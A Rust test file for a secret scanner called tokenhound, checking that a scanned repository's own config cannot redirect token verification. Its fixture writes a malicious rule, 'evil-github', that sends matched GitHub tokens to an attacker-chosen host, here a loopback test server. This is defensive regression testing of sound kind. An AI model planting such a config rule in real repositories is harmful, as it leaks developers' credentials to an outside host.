@@ -1,0 +1,340 @@
+//! Issue 16, security hardening: each test is named after the item it holds,
+//! reproduces the attack (loopback servers only) and fails without the fix.
+//! docs/SECURITY.md lists which test holds which promise.
+
+mod common;
+
+use std::fs;
+use std::path::Path;
+use std::time::Duration;
+
+use common::{fake_ghp, git, json, tokenhound, Server};
+use serde_json::Value;
+
+/// A scanned tree whose own `tokenhound.toml` declares a custom rule that claims
+/// GitHub tokens with `priority = 100` and sends them to `evil_base` (the attack
+/// of issue 16 item 1), next to a file holding a fake GitHub token.
+fn evil_tree(dir: &Path, evil_base: &str, token: &str) {
+    fs::create_dir_all(dir).unwrap();
+    fs::write(
+        dir.join("tokenhound.toml"),
+        format!(
+            r#"[[rule]]
+id = "evil-github"
+name = "GitHub token (harmless test fixture, nothing to revoke)"
+provider = "github"
+kind = "personal-access-token"
+keywords = ["ghp_"]
+pattern = '''\b(?P<secret>ghp_[A-Za-z0-9]{{36}})\b'''
+priority = 100
+lifetime = "short"
+revoke = "Nothing to do: a test fixture."
+examples = ["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"]
+[rule.verify]
+endpoint = "evil"
+base = "{evil_base}"
+path = "/user"
+headers = {{ Authorization = "token {{secret}}" }}
+"#
+        ),
+    )
+    .unwrap();
+    fs::write(
+        dir.join("deploy.env"),
+        format!("GITHUB_TOKEN={token}  # fake token for a test\n"),
+    )
+    .unwrap();
+}
+
+fn parse(out: &std::process::Output) -> Value {
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "{e}: stdout {} stderr {}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
+}
+
+fn finding_for<'a>(doc: &'a Value, token_prefix: &str) -> &'a Value {
+    doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"].as_str().unwrap().ends_with("deploy.env"))
+        .unwrap_or_else(|| panic!("no finding for {token_prefix}: {doc}"))
+}
+
+const VERIFY: [&str; 5] = [
+    "--verify",
+    "--verify-allow-private",
+    "--verify-timeout",
+    "2",
+    "--format",
+];
+
+#[test]
+fn item1_tree_config_rule_cannot_send_tokens_to_its_own_host() {
+    let server = Server::start(|_| json(200, r#"{"login":"fake"}"#));
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    let token = fake_ghp("item1");
+    evil_tree(&tree, &format!("https://127.0.0.1:{}", server.port), &token);
+    let out = tokenhound()
+        .arg("scan")
+        .arg(&tree)
+        .args(VERIFY)
+        .arg("json")
+        .output()
+        .unwrap();
+    let doc = parse(&out);
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(
+        server.connections(),
+        0,
+        "the scanned tree's rule sent a token to its own host: {doc}"
+    );
+    // The built-in rule keeps the match: the tree's priority 100 does not rank
+    // its rule above a built-in one.
+    let f = finding_for(&doc, "ghp_");
+    assert_eq!(f["rule_id"], "github-pat-classic", "{f}");
+    // The summary says what the tree's config was refused.
+    let cfg = &doc["stats"]["config"];
+    assert_eq!(cfg["from_scanned_tree"], true, "{doc}");
+    let said = cfg["restricted"].to_string();
+    assert!(
+        said.contains("evil-github") && said.contains("priority"),
+        "{cfg}"
+    );
+    // The human summary says it too.
+    let human = tokenhound().arg("scan").arg(&tree).output().unwrap();
+    let text = String::from_utf8_lossy(&human.stdout);
+    assert!(
+        text.contains("evil-github") && text.contains("scanned tree"),
+        "{text}"
+    );
+}
+
+#[test]
+fn item1_tree_config_rule_check_is_refused_and_says_how_to_allow_it() {
+    // A custom rule of the tree that claims a token no built-in rule knows: its
+    // check is refused (skipped, nothing sent) unless the user names the host.
+    let server = Server::start(|_| json(200, r#"{"ok":true}"#));
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    fs::create_dir_all(&tree).unwrap();
+    let rule = common::ACME_RULE.replace(
+        "https://api.acme.test",
+        &format!("https://127.0.0.1:{}", server.port),
+    );
+    fs::write(tree.join("tokenhound.toml"), &rule).unwrap();
+    fs::write(
+        tree.join("app.env"),
+        "ACME = \"acme_Live00FakeToken0Aa1Bb2Cc\"  # fake token for a test\n",
+    )
+    .unwrap();
+    let run = |extra: &[&str]| {
+        let out = tokenhound()
+            .arg("scan")
+            .arg(&tree)
+            .args(VERIFY)
+            .arg("json")
+            .args(extra)
+            .output()
+            .unwrap();
+        parse(&out)
+    };
+    let doc = run(&[]);
+    let v = &doc["findings"][0]["verification"];
+    assert_eq!(v["status"], "skipped", "{doc}");
+    assert!(
+        v["detail"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("--verify-host"),
+        "{v}"
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(server.connections(), 0);
+    // Named on the command line: the person running tokenhound allowed it.
+    // (TLS to this plain-HTTP server fails, so the answer is `unknown`; what
+    // matters is that the connection was made.)
+    let doc = run(&["--verify-host", "127.0.0.1"]);
+    assert_eq!(doc["findings"][0]["verification"]["status"], "unknown");
+    assert!(server.connections() >= 1);
+}
+
+#[test]
+fn item1_config_given_with_config_is_trusted() {
+    // The positive control: the same file passed with --config is the user's
+    // own, so its rule's priority and check are honoured.
+    let server = Server::start(|_| json(200, r#"{"login":"fake"}"#));
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    evil_tree(
+        &tree,
+        &format!("https://127.0.0.1:{}", server.port),
+        &fake_ghp("cfg"),
+    );
+    let out = tokenhound()
+        .arg("scan")
+        .arg(&tree)
+        .arg("--config")
+        .arg(tree.join("tokenhound.toml"))
+        .args(VERIFY)
+        .arg("json")
+        .output()
+        .unwrap();
+    let doc = parse(&out);
+    assert_eq!(finding_for(&doc, "ghp_")["rule_id"], "evil-github");
+    assert_eq!(doc["stats"]["config"]["from_scanned_tree"], false);
+    assert!(server.connections() >= 1, "{doc}");
+}
+
+#[test]
+fn item1_git_and_audit_verify_refuse_the_tree_config_targets() {
+    let server = Server::start(|_| json(200, r#"{"login":"fake"}"#));
+    let dir = tempfile::tempdir().unwrap();
+    let repo = dir.path().join("repo");
+    evil_tree(
+        &repo,
+        &format!("https://127.0.0.1:{}", server.port),
+        &fake_ghp("git"),
+    );
+    git(&repo, &["init", "-q", "-b", "main"]);
+    git(&repo, &["add", "."]);
+    git(&repo, &["commit", "-q", "-m", "a contributor's branch"]);
+    let runs: Vec<(&str, Vec<String>)> = vec![
+        (
+            "git history",
+            vec!["git".into(), repo.display().to_string()],
+        ),
+        (
+            "audit",
+            vec![
+                "audit".into(),
+                "--store".into(),
+                dir.path().join("audit.db").display().to_string(),
+                repo.display().to_string(),
+            ],
+        ),
+    ];
+    for (what, args) in runs {
+        let out = tokenhound()
+            .args(&args)
+            .args(VERIFY)
+            .arg("json")
+            .output()
+            .unwrap();
+        let doc = parse(&out);
+        for f in doc["findings"].as_array().unwrap() {
+            assert_eq!(f["rule_id"], "github-pat-classic", "{what}: {f}");
+        }
+        std::thread::sleep(Duration::from_millis(200));
+        assert_eq!(server.connections(), 0, "{what}: {doc}");
+    }
+    // --staged and --working-tree too.
+    fs::write(
+        repo.join("new.env"),
+        format!("T={}  # fake token for a test\n", fake_ghp("staged")),
+    )
+    .unwrap();
+    git(&repo, &["add", "new.env"]);
+    for mode in ["--staged", "--working-tree"] {
+        let out = tokenhound()
+            .arg("git")
+            .arg(&repo)
+            .arg(mode)
+            .args(VERIFY)
+            .arg("json")
+            .output()
+            .unwrap();
+        let doc = parse(&out);
+        assert!(!doc["findings"].as_array().unwrap().is_empty(), "{mode}");
+        std::thread::sleep(Duration::from_millis(200));
+        assert_eq!(server.connections(), 0, "{mode}: {doc}");
+    }
+}
+
+#[test]
+fn item1_tree_config_suppression_is_said_and_no_tree_config_ignores_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    fs::create_dir_all(&tree).unwrap();
+    fs::write(
+        tree.join("tokenhound.toml"),
+        "[allowlist]\npaths = [\"**\"]\n[rules]\ndisable = [\"jwt\"]\n",
+    )
+    .unwrap();
+    fs::write(
+        tree.join("deploy.env"),
+        format!(
+            "GITHUB_TOKEN={}  # fake token for a test\n",
+            fake_ghp("sup")
+        ),
+    )
+    .unwrap();
+    // The gate passes (the tree may allowlist), but the summary says who did it.
+    let out = tokenhound().arg("scan").arg(&tree).output().unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    let text = String::from_utf8_lossy(&out.stdout);
+    let cfg_path = tree.join("tokenhound.toml").display().to_string();
+    assert!(
+        text.contains(&cfg_path)
+            && text.contains("scanned tree")
+            && text.contains("1 by [allowlist] paths")
+            && text.contains("jwt"),
+        "{text}"
+    );
+    let out = tokenhound()
+        .arg("scan")
+        .arg(&tree)
+        .args(["--format", "json"])
+        .output()
+        .unwrap();
+    let doc = parse(&out);
+    let cfg = &doc["stats"]["config"];
+    assert_eq!(cfg["path"], cfg_path.as_str(), "{cfg}");
+    assert_eq!(cfg["suppressed"]["path_allowlist"], 1, "{cfg}");
+    assert_eq!(cfg["disabled_rules"][0], "jwt", "{cfg}");
+    // --no-tree-config: the tree's settings are not used, and that is said.
+    let out = tokenhound()
+        .arg("scan")
+        .arg(&tree)
+        .args(["--no-tree-config", "--format", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let doc = parse(&out);
+    assert_eq!(doc["findings"].as_array().unwrap().len(), 1);
+    assert_eq!(doc["stats"]["config"]["ignored"], true, "{doc}");
+}
+
+#[test]
+fn item1_own_examples_do_not_hide_other_tokens_in_the_tree_config() {
+    // The config's own custom-rule examples are not leaks, but a real token
+    // written into the same file is.
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    fs::create_dir_all(&tree).unwrap();
+    let token = fake_ghp("own");
+    fs::write(
+        tree.join("tokenhound.toml"),
+        format!("{}\n# GITHUB_TOKEN={token}\n", common::ACME_RULE),
+    )
+    .unwrap();
+    let out = tokenhound()
+        .arg("scan")
+        .arg(&tree)
+        .args(["--format", "json"])
+        .output()
+        .unwrap();
+    let doc = parse(&out);
+    let ids: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, ["github-pat-classic"], "{doc}");
+}
